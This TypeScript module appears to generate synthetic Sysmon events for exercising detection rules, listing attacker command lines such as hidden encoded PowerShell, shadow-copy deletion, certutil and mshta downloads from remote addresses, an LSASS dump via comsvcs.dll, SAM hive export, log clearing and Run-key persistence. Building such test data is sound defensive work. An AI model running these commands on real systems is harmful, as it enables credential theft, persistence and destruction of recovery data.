import type { EventKind } from "./events.ts";
import { processCreation } from "./host-events.ts";
import type { Random } from "./random.ts";
import { account, guid, type Program, program, publicAddress, user } from "./windows-parts.ts";

const system = "C:\\Windows\\System32";

const attack = (path: string, description: string, line: (random: Random) => string): Program => ({
  path,
  company: "Microsoft Corporation",
  product: "Microsoft® Windows® Operating System",
  description,
  line,
});

/** Command lines that many public rules look for, written by us. */
const attacks: readonly Program[] = [
  attack(
    `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    "Windows PowerShell",
    (random) => `powershell.exe -nop -w hidden -enc ${random.hex(400)}==`,
  ),
  attack(
    `${system}\\vssadmin.exe`,
    "Command Line Interface for Microsoft® Volume Shadow Copy Service",
    () => "vssadmin.exe delete shadows /all /quiet",
  ),
  attack(
    `${system}\\certutil.exe`,
    "CertUtil.exe",
    (random) => `certutil.exe -urlcache -split -f http://${publicAddress(random)}/a.exe C:\\Users\\Public\\a.exe`,
  ),
  attack(
    `${system}\\rundll32.exe`,
    "Windows host process (Rundll32)",
    () => `rundll32.exe ${system}\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full`,
  ),
  attack(`${system}\\net.exe`, "Net Command", (random) => `net user ${user(random)} Winter2026! /add /domain`),
  attack(
    `${system}\\schtasks.exe`,
    "Task Scheduler Configuration Tool",
    () => 'schtasks /create /tn "Updater" /sc onlogon /ru system /tr "powershell.exe -w hidden -c iex"',
  ),
  attack(`${system}\\reg.exe`, "Registry Console Tool", () => "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
  attack(`${system}\\whoami.exe`, "whoami - displays logged on user information", () => "whoami /priv"),
  attack(`${system}\\wevtutil.exe`, "Eventing Command Line Utility", () => "wevtutil cl Security"),
  attack(
    `${system}\\mshta.exe`,
    "Microsoft (R) HTML Application host",
    (random) => `mshta.exe http://${publicAddress(random)}/x.hta`,
  ),
];

/** What rules look for. */
export const suspiciousEvents: readonly EventKind[] = [
  {
    weight: 6,
    make: (random) => ({
      log: "sysmon",
      id: 1,
      version: 5,
      data: processCreation(random, random.pick(attacks), program(random)),
    }),
  },
  {
    weight: 2,
    make: (random) => ({
      log: "sysmon",
      id: 10,
      version: 3,
      data: {
        SourceProcessGUID: guid(random),
        SourceProcessId: 400 + random.below(20_000),
        SourceThreadId: random.below(9000),
        SourceImage: `C:\\Users\\${user(random)}\\Downloads\\tool.exe`,
        TargetProcessGUID: guid(random),
        TargetProcessId: 624,
        TargetImage: "C:\\Windows\\system32\\lsass.exe",
        GrantedAccess: "0x1010",
        CallTrace: "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.dll+6cde|UNKNOWN(00000000)",
        SourceUser: account(random),
        TargetUser: "NT AUTHORITY\\SYSTEM",
      },
    }),
  },
  {
    weight: 2,
    make: (random) => ({
      log: "sysmon",
      id: 13,
      version: 2,
      data: {
        EventType: "SetValue",
        ProcessGuid: guid(random),
        ProcessId: 400 + random.below(20_000),
        Image: `${system}\\reg.exe`,
        TargetObject: `HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater${random.below(90)}`,
        Details: 'powershell.exe -w hidden -c "iex (gc C:\\Users\\Public\\u.txt)"',
        User: account(random),
      },
    }),
  },
];
